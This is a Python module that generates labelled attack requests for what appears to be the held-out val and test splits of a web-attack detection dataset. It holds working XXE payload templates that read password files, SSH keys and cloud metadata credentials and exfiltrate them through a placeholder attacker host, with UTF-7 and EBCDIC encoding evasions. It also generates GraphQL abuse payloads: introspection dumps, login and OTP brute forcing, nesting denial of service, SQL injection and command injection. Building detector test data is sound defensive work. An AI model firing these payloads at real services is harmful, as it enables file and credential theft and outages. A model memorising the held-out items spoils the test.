"""Families whose production is a document of its own: XXE in its encodings, GraphQL abuse.

XML 1.0 (fifth edition) 2.8, 4.2 and appendix F; GraphQL (October 2021) 2, 3.13 and 4.
"""

import base64
import json
import random

from heldout import carrier, grammar, place, words

XXE = {
    "val": (
        ('<!DOCTYPE §lower#r§ [<!ENTITY §lower#e§ SYSTEM "file:///etc/⟦passwd¦hosts¦shadow⟧">]><§lower#r§>&§lower#e§;</§lower#r§>'),
        ('<!DOCTYPE §lower#r§ [<!ENTITY §lower#e§ SYSTEM "http://§evil§/§lower§">]><§lower#r§><§word#i§>&§lower#e§;</§word#i§></§lower#r§>'),
        ('<!DOCTYPE §lower#r§ [<!ENTITY % §lower#p§ SYSTEM "http://§evil§/§lower§.dtd"> %§lower#p§;]><§lower#r§/>'),
        ('<!DOCTYPE §lower#r§ SYSTEM "http://§evil§/§lower§.dtd"><§lower#r§>§word§</§lower#r§>'),
        ('<!DOCTYPE lolz [<!ENTITY a "§lower§"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><lolz>&d;</lolz>'),
        ('<!DOCTYPE §lower#r§ [<!ENTITY §lower#e§ SYSTEM "php://filter/convert.base64-encode/resource=⟦index.php¦config.php⟧">]><§lower#r§>&§lower#e§;</§lower#r§>'),
    ),
    "test": (
        ('<!DOCTYPE §word#r§ [⏎  <!ELEMENT §word#r§ ANY>⏎  <!ENTITY §ident#e§ SYSTEM "⟦file:///c:/windows/win.ini¦file:///proc/self/environ¦file:///etc/fstab¦file:///root/.ssh/id_rsa¦file:///var/www/.env⟧">⏎]>⏎<§word#r§ v="§digit§">&§ident#e§;</§word#r§>'),
        ('<!DOCTYPE §word#r§ PUBLIC "-//§upper§//DTD §upword§//EN" "http://§evil§/⟦a.dtd¦§lower§⟧"><§word#r§><id>§int§</id></§word#r§>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY % §lower#a§ SYSTEM "file:///etc/⟦hostname¦issue⟧"><!ENTITY % §lower#b§ SYSTEM "⟦http¦ftp⟧://§evil§/§lower§.dtd">%§lower#b§;%all;]><§word#r§>&send;</§word#r§>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY §ident#e§ PUBLIC "§rand§" "⟦netdoc:///etc/hosts¦jar:http://§evil§/x.jar!/a¦gopher://§private§:6379/_INFO¦expect://id⟧">]><§word#r§>&§ident#e§;</§word#r§>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY % local SYSTEM "file:///usr/share/⟦yelp/dtd/docbookx.dtd¦xml/fontconfig/fonts.dtd⟧"><!ENTITY % ⟦ISOamso¦expr⟧ \'<!ENTITY &#x25; §lower#f§ SYSTEM "file:///etc/passwd"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; err SYSTEM &#x27;file:///§lower§/&#x25;§lower#f§;&#x27;>">&#x25;eval;&#x25;err;\'>%local;]><§word#r§/>'),
        ('<§word#r§ xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="⟦file:///etc/group¦file:///c:/boot.ini¦http://§private§:§port§/⟧"/></§word#r§>'),
        ('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\'⟦/etc/passwd¦http://§evil§/¦file:///c:/windows/system.ini⟧\')"/></xsl:template></xsl:stylesheet>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY x0 "§rand§§rand§§rand§"><!ENTITY x1 "&x0;&x0;&x0;&x0;&x0;&x0;"><!ENTITY x2 "&x1;&x1;&x1;&x1;&x1;&x1;"><!ENTITY x3 "&x2;&x2;&x2;&x2;&x2;&x2;"><!ENTITY x4 "&x3;&x3;&x3;&x3;&x3;&x3;">]><§word#r§ a="&x4;"/>'),
        ('<!DOCTYPE §word#r§ [<!ATTLIST §word#r§ §lower#q§ ENTITY #IMPLIED><!NOTATION n SYSTEM "§lower§"><!ENTITY §lower#q§ SYSTEM "http://§evil§/§lower§" NDATA n>]><§word#r§ §lower#q§="§lower#q§"/>'),
        ('<!DOCTYPE svg [<!ENTITY §ident#e§ SYSTEM "file:///⟦etc/hostname¦proc/self/cmdline⟧">]><svg width="§int§" height="§int§" xmlns="http://www.w3.org/2000/svg"><text x="0" y="16">&§ident#e§;</text></svg>'),
        ('<?xml-stylesheet type="text/xsl" href="http://§evil§/§lower§.xsl"?><!DOCTYPE §word#r§ SYSTEM "file:///dev/random" [<!ENTITY §lower#d§ SYSTEM "\\\\§evil§\\§lower§">]><§word#r§>&§lower#d§;</§word#r§>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY §ident#e§ SYSTEM "http://169.254.169.254/latest/⟦user-data¦meta-data/iam/security-credentials/⟧">]><§word#r§><![CDATA[§word§]]>&§ident#e§;</§word#r§>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY % begin "<![CDATA["><!ENTITY % goodies SYSTEM "file:///⟦srv/app/settings.py¦etc/tomcat/tomcat-users.xml⟧"><!ENTITY % end "]]>"><!ENTITY % dtd SYSTEM "http://§evil§/join.dtd"> %dtd;]><§word#r§>&all;</§word#r§>'),
    ),
}
XXE_PLACES = {"raw": 3, "xml": 2, "multipart": 1.2, "form": 1, "query": 1, "json": 0.7, "graphql": 0.4, "cookie": 0.3}
ENCODINGS = {
    "val": ("utf-8", "utf-8", "utf-16-le-bom", "utf-16-be-bom", "cp037"),
    "test": ("utf-8", "utf-8", "utf-8-bom", "utf-16-le-bom", "utf-16-be-bom", "utf-16-le", "utf-16-be", "utf-7", "utf-7", "cp037", "cp037", "utf-32-be", "latin-1"),
}


def xml_bytes(rng, document, encoding):
    """The document in one encoding, with the declaration that names it."""
    label, codec, mark = {
        "utf-8": ("UTF-8", "utf-8", b""), "utf-8-bom": ("UTF-8", "utf-8", b"\xef\xbb\xbf"),
        "utf-16-le-bom": ("UTF-16", "utf-16-le", b"\xff\xfe"), "utf-16-be-bom": ("UTF-16", "utf-16-be", b"\xfe\xff"),
        "utf-16-le": ("UTF-16LE", "utf-16-le", b""), "utf-16-be": ("UTF-16BE", "utf-16-be", b""),
        "utf-7": ("UTF-7", "utf-7", b""), "cp037": (rng.choice(["IBM037", "CP037"]), "cp037", b""),
        "utf-32-be": ("UTF-32", "utf-32-be", b"\x00\x00\xfe\xff"), "latin-1": ("ISO-8859-1", "latin-1", b""),
    }[encoding]
    declaration = "<?xml version=%s encoding=%s?>" % tuple(rng.choice("'\"").join(["", text, ""]) for text in ("1.0", label)) + rng.choice(["", "\n"])
    declaration = declaration if encoding != "utf-8" or rng.random() < 0.8 else ""
    if encoding == "utf-7":  # the declaration stays readable, the rest hides its brackets
        return declaration.encode() + "".join(c if c not in "<>!\"&%" else "+%s-" % base64.b64encode(c.encode("utf-16-be")).decode().rstrip("=") for c in document).encode()
    return mark + (declaration + document).encode(codec, "replace")


def xxe(split, seed, dataset, kind):
    from heldout import build
    rng = random.Random("%s/%s/%d" % (dataset, split, seed))
    counts, seen, made = {}, set(), []
    while len(made) < build.COUNT[split]:
        production = rng.choice(XXE[split])
        document = grammar.expand(rng, production)
        where = build.next_place(rng, counts, list(XXE_PLACES), XXE_PLACES)
        request = carrier.Request(rng, rng.choice(build.fitting(split, where, False)))
        encoding = rng.choice(ENCODINGS[split]) if where in ("raw", "xml") else "utf-8"
        content = xml_bytes(rng, document, encoding)
        if where in ("raw", "xml"):
            request.media, request.bytes = rng.choice(["application/xml", "text/xml", "application/soap+xml", "image/svg+xml"]) + ("" if encoding != "utf-7" or rng.random() < 0.5 else "; charset=utf-7"), content
            if "svg" not in document and "svg" in request.media:
                request.media = "application/xml"
        elif where == "multipart" and "<svg" not in document:
            place.put_file(rng, request, where, content.decode(), [rng.choice(["data", "import", words.ident(rng)]) + rng.choice([".xml", ".rdf", ".gpx", ".kml", ".plist"])])
        elif where == "multipart":
            place.put_file(rng, request, where, content.decode(), [words.ident(rng) + ".svg"])
        else:
            try:
                place.put(rng, request, where, content.decode().replace("\n", " "), keys=["xml", "data", "payload", "SAMLRequest", "doc", "config"])
            except place.Unsuitable:
                counts[where] = counts.get(where, 0) + 0.1
                continue
        if document in seen:
            continue
        seen.add(document)
        counts[where] = counts.get(where, 0) + 1
        record = request.record("%s-%s-%04d" % (dataset, split, len(made)), dataset, "attack", kind, where)
        record["payload"], record["encoding"] = document, encoding
        made.append(record)
    return made


def repeat(rng, low, high, make, joint=" "):
    return joint.join(make(n) for n in range(rng.randint(low, high)))


def graphql_val(rng):
    """One abusive document, of the kinds kept for val."""
    word = words.pick(rng, "word")
    shape = rng.randrange(4)
    if shape == 0:
        return "{ __schema { types { name fields { name type { name kind ofType { name } } args { name } } } } }" if rng.random() < 0.5 else "query %s { __schema { queryType { name } mutationType { name } types { ...F } } } fragment F on __Type { kind name description fields(includeDeprecated: true) { name } }" % word
    if shape == 1:
        return "mutation { " + repeat(rng, 12, 40, lambda n: 'a%d: login(user: "%s", password: "%s%d") { token }' % (n, word, words.atom(rng, "pass"), n)) + " }"
    if shape == 2:
        depth = rng.randint(9, 22)
        return "query { " + "user { friends { " * depth + "id" + " } }" * depth + " }"
    return 'query { %s(id: "%s") { id } }' % (words.pick(rng, "thing"), grammar.expand(rng, "§id§' ⟦OR '1'='1¦UNION SELECT §column§ FROM §table§--⟧"))


def graphql_test(rng):
    """One abusive document, of the kinds kept for test."""
    word, other = words.pick(rng, "word"), words.pick(rng, "thing")
    shape = rng.randrange(9)
    if shape == 0:
        return 'query { __type(name: "%s") { name kind fields(includeDeprecated: true) { name args { name defaultValue type { name } } type { name ofType { name } } } inputFields { name } } __typename }' % rng.choice(["User", "Query", "Mutation", "Admin", word.capitalize()])
    if shape == 1:
        return "fragment A on %s { ...B } fragment B on %s { ...%s } query %s { %s { ...A } }" % (word.capitalize(), word.capitalize(), rng.choice(["A", "B"]), other.capitalize(), word)
    if shape == 2:
        return "query { %s " % word + "".join("@%s " % rng.choice(["aa", "skip(if:false)", "include(if:true)", word]) for _ in range(rng.randint(60, 300))) + "{ id } }"
    if shape == 3:
        return "{ " + "__typename " * rng.randint(150, 700) + "}"
    if shape == 4:
        return "query { " + repeat(rng, 40, 150, lambda n: '%s%d: checkCoupon(code: "%s%04d") { valid value }' % (word[:2], n, word.upper(), rng.randint(0, 9999))) + " }"
    if shape == 5:
        return "mutation { " + repeat(rng, 25, 90, lambda n: 'otp%d: verifyOtp(phone: "%s", code: "%06d") { accessToken }' % (n, words.atom(rng, "phone"), rng.randint(0, 999999))) + " }"
    if shape == 6:
        depth = rng.randint(12, 30)
        return "query %s { " % word + "".join("%s(first: %d) { edges { node { " % (rng.choice(["author", "comments", "posts", "replies"]), rng.randint(100, 9999)) for _ in range(depth)) + "id" + " } } }" * depth + " }"
    if shape == 7:
        return "query %s { " % word + "__schema { types { fields { type { fields { type { " + "fields { type { " * rng.randint(3, 9) + "name"
    return "query { systemDiagnostics(cmd: \"%s\") }" % rng.choice(["id", "cat /etc/passwd", "; uname -a", "whoami && ls"])


def balanced(document):
    return document + " }" * (document.count("{") - document.count("}"))


GRAPHQL_PLACES = {"graphql": 4, "json": 2, "query": 2, "raw": 1.5, "form": 1, "multipart": 1}


def graphql(split, seed, dataset, kind):
    from heldout import build
    rng = random.Random("%s/%s/%d" % (dataset, split, seed))
    make = {"val": graphql_val, "test": graphql_test}[split]
    counts, seen, made = {}, set(), []
    while len(made) < build.COUNT[split]:
        document = balanced(make(rng))
        where = build.next_place(rng, counts, list(GRAPHQL_PLACES), GRAPHQL_PLACES)
        if document in seen and rng.random() < 0.97:
            continue
        request = carrier.Request(rng, rng.choice(build.fitting(split, where, False)))
        request.path = rng.choice(["/graphql", "/api/graphql", "/v1/graphql", "/query", "/gql", "/graphql/console"]) if split == "test" else rng.choice(["/graphql", "/api"])
        if where == "graphql":
            request.body = {"query": document, "variables": {}} if rng.random() < 0.6 else {"operationName": None, "variables": None, "query": document}
        elif where == "json":  # a batch: the same abuse many times in one array
            request.body = [{"query": balanced(make(rng)) if n else document} for n in range(rng.randint(2, 6))]
        elif where == "query":
            if len(document) > 6000:
                continue
            request.query = [["query", place.quote(rng, document, "query")]]
        elif where == "form":
            request.body = [["query", carrier.form_quote(document)], ["variables", "%7B%7D"]]
        elif where == "multipart":
            request.parts = [["operations", None, None, json.dumps({"query": document, "variables": {"file": None}}).encode(), False], ["map", None, None, b'{"0":["variables.file"]}', False], ["0", "a.txt", "text/plain", words.ident(rng).encode(), False]]
        else:
            request.media, request.bytes = "application/graphql", document.encode()
        seen.add(document)
        counts[where] = counts.get(where, 0) + 1
        record = request.record("%s-%s-%04d" % (dataset, split, len(made)), dataset, "attack", kind, where)
        record["payload"] = document
        made.append(record)
    return made


FAMILIES = {"xxe": xxe, "graphql": graphql}
